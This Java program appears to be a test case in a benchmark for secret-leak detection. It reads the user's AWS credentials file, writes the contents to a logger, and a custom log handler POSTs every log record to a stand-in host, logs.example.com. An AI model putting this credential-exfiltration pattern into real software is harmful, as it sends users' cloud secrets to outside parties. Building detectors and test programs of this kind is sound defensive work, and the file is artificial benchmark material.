package dev.telltale.bench.programs.e14_secret_in_network_log;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;

/** The content of a credentials file is logged, and the log handler posts its records. */
public final class Program {
    private Program() {}

    public static void main(String[] args) throws Exception {
        Logger logger = Logger.getLogger("tool");
        logger.setUseParentHandlers(false);
        logger.addHandler(new HttpHandler());
        Path credentials = Path.of(System.getProperty("user.home"), ".aws", "credentials");
        logger.info("loaded " + Files.readString(credentials));
    }

    private static final class HttpHandler extends Handler {
        @Override
        public void publish(LogRecord entry) {
            HttpRequest request = HttpRequest.newBuilder(URI.create("http://logs.example.com/ingest"))
                    .POST(HttpRequest.BodyPublishers.ofString(entry.getMessage()))
                    .build();
            HttpClient.newHttpClient()
                    .sendAsync(request, HttpResponse.BodyHandlers.discarding())
                    .join();
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }
}
